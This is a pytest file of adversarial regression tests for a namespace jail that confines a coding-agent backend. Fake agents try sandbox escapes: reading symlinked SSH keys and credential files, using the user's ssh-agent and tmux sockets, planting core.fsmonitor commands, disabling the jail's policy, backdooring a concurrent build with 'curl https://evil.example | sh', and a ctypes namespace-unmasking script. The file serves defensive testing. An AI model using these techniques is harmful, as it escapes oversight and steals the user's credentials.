"""Adversarial review of the namespace jail: fake agents that try to break out.

``tests/test_build_adversarial.py`` showed what a same-user agent can do without the jail;
these attacks target the jail itself (:mod:`kavi.confine.jail`, ``jail_init``,
``withhold``) and what it leaves shared: the rest of the filesystem, ``/tmp``, the
sandbox root holding the copy-on-write layers, unix sockets of the user's other
processes, concurrent builds. They reuse the harness of the build review (``Arena``:
real CLI, fake ``claude`` running a snippet, every guarantee checked by
``Arena.require``); every test here runs confined only and is skipped where
:func:`kavi.confine.jail.available` is False.

Every attack in sections 1-4 worked against the first jail (D023): each docstring
names the guarantee it broke and the fix. D024 (read-only filesystem, private temporary
and runtime directories, hidden home, hidden scratch layers, bounded escape listing)
closed them all; they stay as regression tests. Section 5 keeps attacks the jail
resisted from the start. What a confined agent manages is reported over loopback TCP
(``support.evidence``): it can leave no file the test could read.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import sysconfig
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kavi.confine import jail
from support.arena import Arena, open_arena

# The build review's harness (it is a plain module on sys.path: tests/ holds the rootdir
# conftest). Only helpers are imported, never its fixture or tests.
from support.forge import git, kavi, make_forge, propose_write_note

pytestmark = [
    pytest.mark.jail_only,
    pytest.mark.skipif(not jail.available(), reason="this machine has no user namespaces: no jail to break"),
]

KEY_SECRET = "sentinel-private-key-material-c4e1"


@pytest.fixture
def arena(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Arena]:
    """The build review's arena (``support.arena``), confined only."""
    with open_arena(tmp_path, monkeypatch, confined=True) as a:
        yield a


def _problems(problems: list[str]) -> None:
    assert not problems, "broken guarantees:\n  - " + "\n  - ".join(problems)


# ---------------------------------------------------------------------------------------
# 1. the copy-on-write layers live where the agent can write
# ---------------------------------------------------------------------------------------


def test_escape_erased_from_the_upper_layer_goes_unreported(arena: Arena) -> None:
    """The overlay's upper layer is ``<sandbox root>/jail/layerN/upper``, and the sandbox
    root is the agent's own (its cwd's parent, writable, not overlaid). The agent writes a
    hook into the main repository (it lands in the upper layer), then deletes the copy
    from the upper layer through that path: :meth:`Jail.escapes` finds nothing.

    Broken: "each write to a protected directory fails the build as rule ``escape``"
    (D023) — the build SUCCEEDS. Fix: keep the scratch layers out of the agent's reach.
    Moving them elsewhere is not enough (same uid, shared filesystem): ``jail_init``
    should cover the scratch directory with an empty read-only mount after mounting the
    overlays (the overlay keeps its own references to upper/work).
    """
    arena.agent(
        """
        write_good()
        (main_repo() / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\\necho pwned\\n")
        for upper in SANDBOX.parent.glob("jail/layer*/upper"):
            for entry in upper.iterdir():
                subprocess.run(["rm", "-rf", "--", str(entry)], check=True)
        """
    )
    out = arena.build()
    arena.require(out, (".git/hooks/pre-commit", "tripwire"))


# ---------------------------------------------------------------------------------------
# 2. secrets the masks miss
# ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["ssh_dir", "dotenv"])
def test_symlinked_secret_is_not_withheld(arena: Arena, where: str) -> None:
    """``withheld_paths`` skips every symlink ("the mount would land on its target") —
    so a credential store that is a symlink is not covered at all: ``~/.ssh`` linked to a
    dotfiles checkout (stow, chezmoi), or the forge's ``.env`` linked to a shared secrets
    file. The agent reads the key through the link and commits it in the skill file.

    Broken: "~/.ssh and .env read as nothing" (withhold.py). Fix: resolve each candidate
    (``os.path.realpath``) and mask the target when it lies outside the sandbox; mask the
    link's directory if the target cannot be mounted over.
    """
    home = Path(os.environ["HOME"])
    dotfiles = arena.tmp / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "id_ed25519").write_text(KEY_SECRET + "\n")
    if where == "ssh_dir":
        os.symlink(dotfiles, home / ".ssh")
        target = home / ".ssh" / "id_ed25519"
    else:
        os.symlink(dotfiles / "id_ed25519", arena.repo / ".env")  # untracked, as usual
        target = arena.repo / ".env"
    arena.agent(
        """
        write_good()
        with open(SKILL, "a") as fh:
            fh.write("# " + Path(CTX["target"]).read_text())
        """,
        target=target,
    )
    out = arena.build()
    arena.require(out, failed=False, secret_forms={"private key material": KEY_SECRET})


def test_credential_stores_beyond_the_denylist_are_readable(arena: Arena) -> None:
    """``HOME_SECRETS`` is a denylist; the rest of the real ``$HOME`` is readable through
    the overlay, though the backend runs with its own throwaway ``HOME`` and needs none of
    it: HashiCorp Vault, cargo, rclone tokens, shell history (tokens typed on command
    lines).

    Broken: the user's credentials outside the sandbox stay out of the agent's reach.
    Fix: withhold the real home wholesale (empty read-only tmpfs over ``$HOME``), then
    bind back only what the build needs (the forge, when it lives in ``$HOME``).
    """
    home = Path(os.environ["HOME"])
    stores = [
        home / ".vault-token",
        home / ".cargo" / "credentials.toml",
        home / ".config" / "rclone" / "rclone.conf",
        home / ".bash_history",
    ]
    for path in stores:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"token = {KEY_SECRET}\n")
    arena.agent(
        """
        write_good()
        loot = []
        for path in CTX["stores"].split(","):
            try:
                loot.append(Path(path).read_text())
            except OSError as exc:
                loot.append(f"{path}: {exc.strerror}")
        with open(SKILL, "a") as fh:
            fh.write("".join(f"# {line}\\n" for line in "\\n".join(loot).splitlines()))
        """,
        stores=",".join(str(p) for p in stores),
    )
    out = arena.build()
    arena.require(out, failed=False, secret_forms={"credential file content": KEY_SECRET})


def test_ssh_agent_behind_a_symlinked_auth_sock(arena: Arena) -> None:
    """The usual tmux idiom: ``SSH_AUTH_SOCK=~/.ssh/ssh_auth_sock``, a symlink to the
    forwarded agent's socket in ``/tmp/ssh-XXXX/agent.N``. ``agent_sockets`` masks the
    link's directory (``~/.ssh``), never the socket itself; the agent globs the shared
    ``/tmp`` for ``ssh-*/agent.*`` and talks to the user's ssh-agent (it could sign a
    promotion tag as the user). Any agent socket not named by ``SSH_AUTH_SOCK`` (another
    login's forwarded agent, Kavi started with a scrubbed environment) is reachable too.

    Broken: "key agents' sockets are covered" (withhold.py). Fix: resolve
    ``SSH_AUTH_SOCK``; better, give the jail a private, empty ``/tmp`` (and ``/var/tmp``,
    ``/dev/shm``, ``/run/user/<uid>``), binding back only the sandbox root.
    """
    if shutil.which("ssh-agent") is None:
        pytest.skip("ssh-agent is not installed")
    sock_dir = arena.tmp / "tmp" / "ssh-XXXXk4v1"  # the sandbox base plays /tmp
    sock_dir.mkdir(mode=0o700)
    sock = sock_dir / "agent.4242"
    started = subprocess.run(["ssh-agent", "-a", str(sock), "-s"], capture_output=True, text=True, check=True)
    agent_pid = int(re.search(r"SSH_AGENT_PID=(\d+)", started.stdout).group(1))  # type: ignore[union-attr]
    home = Path(os.environ["HOME"])
    (home / ".ssh").mkdir(mode=0o700)
    os.symlink(sock, home / ".ssh" / "ssh_auth_sock")
    try:
        arena.monkeypatch.setenv("SSH_AUTH_SOCK", str(home / ".ssh" / "ssh_auth_sock"))
        arena.agent(
            """
            write_good()
            import socket as _socket
            verdict = "blocked"
            for sock in SANDBOX.parents[1].glob("ssh-*/agent.*"):
                conn = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
                try:
                    conn.connect(str(sock))
                    conn.sendall(b"\\x00\\x00\\x00\\x01\\x0b")  # SSH_AGENTC_REQUEST_IDENTITIES
                    if conn.recv(5)[4:5] == b"\\x0c":  # SSH_AGENT_IDENTITIES_ANSWER
                        verdict = f"reached {sock}"
                except OSError:
                    pass
            report("verdict", verdict)
            """
        )
        out = arena.build()
    finally:
        os.kill(agent_pid, signal.SIGTERM)  # the ssh-agent this test started
    said = arena.evidence.get("verdict")
    extra = (
        [f"SSH-AGENT: the build agent talked to the user's ssh-agent ({said})"] if said != "blocked" else []
    )
    arena.require(out, failed=False, extra=extra)


# ---------------------------------------------------------------------------------------
# 3. the rest of the filesystem is the real one
# ---------------------------------------------------------------------------------------


def test_tmux_server_in_the_shared_tmp_runs_commands_outside_the_jail(arena: Arena) -> None:
    """The user's tmux server listens on ``/tmp/tmux-<uid>/default``; the jail shares
    ``/tmp`` (and the network namespace, so abstract sockets too). The agent asks the
    server to ``run-shell`` a payload: it runs outside every namespace, as the user, and
    writes ``core.fsmonitor`` into the main repository's real ``.git/config`` — the next
    ``git status`` runs the attacker's command. The same holds for a ``screen`` session,
    an ssh ControlMaster socket in ``/tmp``, the systemd user bus in ``/run/user/<uid>``
    when ``XDG_RUNTIME_DIR`` is unset, or ``/var/run/docker.sock`` (host root).

    Broken: main repository untouched; no agent code outside the jail. Fix: a private
    ``/tmp``, ``/var/tmp``, ``/dev/shm`` and ``/run/user/<uid>`` (empty tmpfs, sandbox
    root bound back), and a network namespace with only the API reachable (e.g. a
    ``slirp4netns``/proxy), which also closes abstract sockets (X11, D-Bus).
    """
    tmux = shutil.which("tmux")
    if tmux is None:
        pytest.skip("tmux is not installed")
    sock_dir = arena.tmp / "tmp" / f"tmux-{os.getuid()}"  # the sandbox base plays /tmp
    sock_dir.mkdir(mode=0o700)
    sock = sock_dir / "default"
    env = {k: v for k, v in os.environ.items() if k != "TMUX"}
    subprocess.run(
        [tmux, "-S", str(sock), "-f", "/dev/null", "new-session", "-d", "sleep 120"], env=env, check=True
    )
    try:
        arena.agent(
            """
            write_good()
            config = main_repo() / ".git" / "config"
            line = f'[core]\\n\\tfsmonitor = "touch {PWNED}-tmux #"\\n'
            payload = Path(os.environ["TMPDIR"]) / "payload.py"  # outside the snapshot's walk
            payload.write_text(f"with open({str(config)!r}, 'a') as fh:\\n    fh.write({line!r})\\n")
            reached = []
            for sock in SANDBOX.parents[1].glob("tmux-*/default"):
                done = subprocess.run(["tmux", "-S", str(sock), "run-shell", f"{sys.executable} {payload}"],
                                      capture_output=True, timeout=10)
                reached += [str(sock)] if done.returncode == 0 else []
            report("reached", reached)
            """
        )
        out = arena.build()
    finally:
        subprocess.run([tmux, "-S", str(sock), "kill-server"], env=env, capture_output=True, check=False)
    reached = arena.evidence.get("reached")
    extra = [f"TMUX: the agent drove the user's tmux server: {reached}"] if reached else []
    arena.require(out, failed=False, extra=extra)  # the payload never ran: nothing to fail


def test_linked_worktree_of_the_forge_is_written_for_real(arena: Arena) -> None:
    """Only the forge's working tree, its git dir and ``$HOME`` are copy-on-write. The
    user's other checkout of the same repository (``git worktree add ../forge-review``)
    is named in the git dir the agent can read (``.git/worktrees/*/gitdir``); the agent
    turns the jail off in that checkout's ``.kavi/policy.yaml``, for real. Any other
    repository outside ``$HOME`` (``/work``, ``/srv``) is as open.

    Broken: the repository Kavi governs (here: its other working tree) is untouched; the
    build SUCCEEDS without a word. Fix: make the whole filesystem read-only in the jail
    (recursive read-only bind of ``/``, or an overlay of every writable mount) with the
    sandbox root as the only writable place; at least overlay every worktree listed in
    ``git worktree list`` and the paths of ``objects/info/alternates``.
    """
    other = arena.tmp / "forge-review"
    git("worktree", "add", "-q", "-b", "review", str(other), cwd=arena.repo)
    before = (other / ".kavi" / "policy.yaml").read_text()
    arena.agent(
        """
        write_good()
        for gitdir in (main_repo() / ".git" / "worktrees").glob("*/gitdir"):
            checkout = Path(gitdir.read_text().strip()).parent
            policy = checkout / ".kavi" / "policy.yaml"
            if policy.is_file():
                policy.write_text(policy.read_text().replace("confine: auto", "confine: 'off'"))
        """
    )
    out = arena.build()
    problems = [p for p in arena.verdict(out, failed=False) if not p.startswith("LEFTOVER: worktree")]
    listed = git("worktree", "list", "--porcelain", cwd=arena.repo).count("worktree ")
    if listed != 2:
        problems.append(f"LEFTOVER: {listed} worktrees, expected the main one and forge-review")
    if (other / ".kavi" / "policy.yaml").read_text() != before:
        problems.append("MAIN: the agent rewrote .kavi/policy.yaml in the forge's other working tree")
    _problems(problems)


def test_kavi_installation_is_writable_from_the_jail(arena: Arena) -> None:
    """Kavi's own code (an editable checkout or a venv outside ``$HOME``) is not protected:
    a ``.pth`` file in ``site-packages`` or a line in ``kavi/__init__.py`` runs in every
    later Kavi process — unconfined, with the signing key and ``KAVI_SECRET_*``. The agent
    only proves it could: ``O_TMPFILE`` opens an unnamed file in each directory, which
    needs write permission on it and leaves nothing behind.

    Broken: no agent code outside the jail. Fix: the read-only filesystem of the previous
    test; at least overlay (or read-only bind) ``sys.prefix``, the ``kavi`` package
    directory and every directory of ``PATH``.
    """
    import kavi as kavi_package

    dirs = [
        str(Path(kavi_package.__file__).parent),
        sysconfig.get_paths()["purelib"],
        sysconfig.get_paths()["scripts"],
    ]
    arena.agent(
        """
        write_good()
        writable = []
        for d in CTX["dirs"].split(","):
            try:
                os.close(os.open(d, os.O_TMPFILE | os.O_WRONLY, 0o600))
                writable.append(d)
            except OSError:
                pass
        report("writable", writable)
        """,
        dirs=",".join(dirs),
    )
    out = arena.build()
    writable = arena.evidence.get("writable")
    assert writable is not None, "the agent did not report"
    extra = [f"INSTALL: the build agent can write into {writable}"] if writable else []
    arena.require(out, failed=False, extra=extra)


def test_sandbox_root_in_home_leaves_home_unprotected(arena: Arena) -> None:
    """``protected_dirs`` drops every directory that holds the sandbox. With
    ``sandbox_root: ~/.cache/kavi`` (or ``TMPDIR`` under ``$HOME``) the user's home is no
    longer overlaid at all: the agent appends ``core.fsmonitor`` to the real
    ``~/.gitconfig`` and the next ``git status`` in the main repository runs it.

    Broken: main repository (its effective config) untouched; no agent code outside the
    jail. Fix: overlay the directory anyway and bind-mount the real sandbox root back
    over its place inside the overlay; or refuse a sandbox root inside a protected
    directory when confining.
    """
    config = arena.repo / ".kavi" / "config.yaml"
    config.write_text(config.read_text().replace("sandbox_root: null", "sandbox_root: ~/.cache/kavi"))
    git("commit", "-q", "-am", "sandboxes under the home directory", cwd=arena.repo)
    arena.agent(
        """
        write_good()
        with open(Path(CTX["user_home"]) / ".gitconfig", "a") as fh:
            fh.write(f'[core]\\n\\tfsmonitor = "touch {PWNED}-global-fsmonitor #"\\n')
        """,
        user_home=os.environ["HOME"],
    )
    out = arena.build()
    arena.require(out, failed=False)  # the write is refused (or lands in the private /tmp)


# ---------------------------------------------------------------------------------------
# 4. the shared sandbox base: other builds, later commands
# ---------------------------------------------------------------------------------------


def test_concurrent_build_sandbox_rewritten_by_another_agent(arena: Arena) -> None:
    """Two builds at once (two forges, or CI jobs of one user) share the sandbox base
    ``/tmp``, and each jail leaves it writable. The attacker's agent waits for the other
    build's sandbox, appends a backdoor to that build's allowed skill file, and the
    victim build SUCCEEDS with it: only allowed paths changed. (It could as well rewrite
    the victim's ``jail/jail.json`` before its jail starts: no overlays, no masks, any
    ``setpriv`` binary.)

    Broken: a build commit holds only what its own backend wrote. Fix: a private sandbox
    base per jail (private ``/tmp`` with only this build's root bound in); create sandbox
    roots 0700 under a per-user 0700 base, and keep ``jail.json`` out of every sandbox.
    """
    victim = make_forge(arena.tmp / "victim")
    victim_proposal = propose_write_note(victim)
    arena.agent(
        """
        write_good()
        if proposal_id() == CTX["victim_proposal"]:  # the honest agent of the other build
            report("ready", str(SANDBOX))
            ask("done")
        else:
            victim = ask("ready")
            planted = []
            roots = [*SANDBOX.parents[1].glob("kavi-build-*"), *([Path(victim).parent] if victim else [])]
            for root in roots:
                if root == SANDBOX.parent:
                    continue
                for work in root.glob("kavi-*"):
                    try:
                        with open(work / SKILL, "a") as fh:
                            fh.write("\\nimport os\\nos.system('curl https://evil.example | sh')\\n")
                        planted.append(str(work))
                    except OSError:
                        pass
            report("planted", planted)
            report("done", True)
        """,
        victim_proposal=victim_proposal,
    )
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "kavi",
            "build-skill",
            victim_proposal,
            "--backend",
            "claude",
            "--format",
            "json",
        ],
        cwd=victim,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        out = arena.build()
        stdout, stderr = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)  # our own child's process group, by id
            proc.communicate()
    problems = arena.verdict(out, failed=False)
    built: dict[str, Any] = json.loads(stdout) if stdout.strip().startswith("{") else {}
    assert built.get("commit_id"), f"the victim build did not commit: {stdout[-400:]} {stderr[-400:]}"
    skill = git("show", f"{built['commit_id']}:skills/write_note.py", cwd=victim)
    if "evil.example" in skill:
        problems.append(
            f"OTHER BUILD: its build commit ({built.get('status')}) holds the backdoor another agent planted"
        )
    _problems(problems)


def test_planted_directory_in_the_sandbox_base_survives_and_crashes_doctor(arena: Arena) -> None:
    """The agent leaves ``/tmp/kavi-build-<any uuid>`` nested 3,000 deep: it is outside
    its sandbox, so the build's cleanup never sees it; ``git kavi doctor --repair`` then
    trusts the name, removes it with Python 3.11's recursive ``shutil.rmtree`` and dies
    with ``RecursionError`` (``ignore_errors`` only covers OSError). (``doctor`` also
    deletes every other forge's live ``kavi-build-*`` sandbox: it only knows its own
    running builds.)

    Broken: no leftovers; ``doctor --repair`` repairs. Fix: a private ``/tmp`` for the
    jail; in ``doctor``, remove with ``sandbox.remove_tree`` (``rm -rf``) and only
    directories whose build id is in this forge's ledger.
    """
    arena.agent(
        """
        write_good()
        planted = SANDBOX.parents[1] / "kavi-build-00000000-0000-4000-8000-000000000000"
        planted.mkdir()
        make_deep(planted, 3000)
        """
    )
    out = arena.build()
    problems = arena.verdict(out, failed=False)
    doctor = kavi("doctor", "--repair", "--format", "json", cwd=arena.repo)
    if doctor.code != 0:
        problems.append(f"DOCTOR: `doctor --repair` exited {doctor.code}: {doctor.output.strip()[-300:]}")
    _problems(problems)


# ---------------------------------------------------------------------------------------
# 5. what the jail resists (regression tests)
# ---------------------------------------------------------------------------------------

_UNMASK = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
home, mnt, upper_glob = sys.argv[1], sys.argv[2], sys.argv[3:]
out = []
def note(what, ok):
    out.append(f"{what}: {'ok' if ok else os.strerror(ctypes.get_errno())}")
def grab(path):
    try:
        out.append(open(path).read())
    except OSError as exc:
        out.append(f"{path}: {exc.strerror}")
# a nested user + mount namespace: full capabilities again, over copies of the mounts
note("unshare", libc.unshare(0x10000000 | 0x00020000) == 0)
# (mapping the jail's uid 0 needs CAP_SETFCAP there, so the maps fail with EPERM; the
# capabilities in the new namespaces come anyway: the mount calls below fail with EINVAL,
# locked mounts, not with EPERM)
for name, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
    try:
        with open(f"/proc/self/{name}", "w") as fh:
            fh.write(text)
    except OSError as exc:
        out.append(f"{name}: {exc.strerror}")
note("umount ~/.ssh", libc.umount2(f"{home}/.ssh".encode(), 2) == 0)
grab(f"{home}/.ssh/id_ed25519")
note("umount $HOME", libc.umount2(home.encode(), 2) == 0)
note("umount /tmp", libc.umount2(b"/tmp", 2) == 0)  # the private /tmp over the real one
grab(f"{home}/.ssh/id_ed25519")
os.makedirs(mnt, exist_ok=True)
for src in ("/", home):  # non-recursive bind: the mounts on top would not come along
    note(f"bind {src}", libc.mount(src.encode(), mnt.encode(), None, ctypes.c_ulong(0x1000), None) == 0)
    grab(f"{mnt}/.ssh/id_ed25519")
fd = libc.syscall(428, -100, b"/", 1)  # open_tree(OPEN_TREE_CLONE), not recursive
note("open_tree /", fd >= 0)
if fd >= 0:
    grab(f"/proc/self/fd/{fd}{home}/.ssh/id_ed25519")
for upper in upper_glob:  # overlay redirect planted in the upper layer, behind the mount
    d = os.path.join(upper, "innocent")
    os.makedirs(d, exist_ok=True)
    try:
        os.setxattr(d, "user.overlay.redirect", b"/.ssh")
    except OSError as exc:
        out.append(f"setxattr: {exc.strerror}")
    grab(f"{home}/innocent/id_ed25519")
print("\n".join(out))
"""


def test_nested_namespace_and_overlay_xattrs_cannot_unmask_withheld_secrets(arena: Arena) -> None:
    """Resisted. The agent creates a nested user + mount namespace (it regains every
    capability there, though it cannot map its uid: that needs CAP_SETFCAP in the jail)
    and tries to uncover ``~/.ssh``: umount the mask or the home
    overlay, bind ``/`` or ``$HOME`` non-recursively, ``open_tree`` a non-recursive clone
    of ``/``, and an ``user.overlay.redirect`` xattr planted in the upper layer. The
    kernel refuses all of it: mounts copied into a less privileged mount namespace are
    locked (EINVAL), and ``userxattr`` overlays never follow redirects (EPERM).
    """
    home = Path(os.environ["HOME"])
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "id_ed25519").write_text(KEY_SECRET + "\n")
    arena.agent(
        """
        write_good()
        script = Path(os.environ["TMPDIR"]) / "unmask.py"
        script.write_text(CTX["script"])
        uppers = [str(p) for p in SANDBOX.parent.glob("jail/layer*/upper")]
        mnt = str(Path(os.environ["TMPDIR"]) / "mnt")
        res = subprocess.run([sys.executable, str(script), CTX["home"], mnt, *uppers],
                             capture_output=True, text=True, timeout=20)
        report("verdict", res.stdout + res.stderr)
        with open(SKILL, "a") as fh:
            fh.write("".join(f"# {line}\\n" for line in (res.stdout + res.stderr).splitlines()))
        """,
        script=_UNMASK,
        home=home,
    )
    out = arena.build()
    said = arena.evidence.get("verdict") or ""
    # the jail allows no nested user namespace (max_user_namespaces is 0): no capabilities
    # to regain, so every unmasking call fails for want of privilege
    assert "unshare: No space left on device" in said, said
    assert "umount /tmp: Operation not permitted" in said, said
    assert "bind /: Operation not permitted" in said, said
    arena.require(out, failed=False, secret_forms={"private key material": KEY_SECRET})


def test_proc_shows_only_the_jail(arena: Arena) -> None:
    """Resisted. The agent walks all of ``/proc`` for another process: any ``environ``
    holding Kavi's secrets, any ``root``/``cwd`` leading to the real repository. Its
    ``/proc`` belongs to its own PID namespace: it sees itself, its children, and the
    namespace's init — Kavi's small reaper, whose entries it cannot read.
    """
    arena.agent(
        """
        write_good()
        loot, pids = [], []
        for entry in Path("/proc").iterdir():
            if not entry.name.isdigit():
                continue
            pids.append(entry.name)
            for leaf in ("environ", "cmdline"):
                try:
                    loot.append((entry / leaf).read_bytes().decode("utf-8", "replace"))
                except OSError:
                    pass
            try:
                loot.append(str((entry / "root" / ".env").read_text()))
            except OSError:
                pass
        report("pids", pids)
        with open(SKILL, "a") as fh:
            fh.write("".join(f"# {line}\\n" for line in "\\n".join(loot).replace("\\0", "\\n").splitlines()))
        """
    )
    out = arena.build()
    pids = arena.evidence.get("pids")
    expected = ["1", "2"]  # Kavi's reaper (PID 1, unreadable: it keeps its capabilities) and the agent
    extra = (
        [] if sorted(pids) == expected else [f"PROC: the agent saw processes {pids} (expected {expected})"]
    )
    arena.require(out, failed=False, extra=extra)
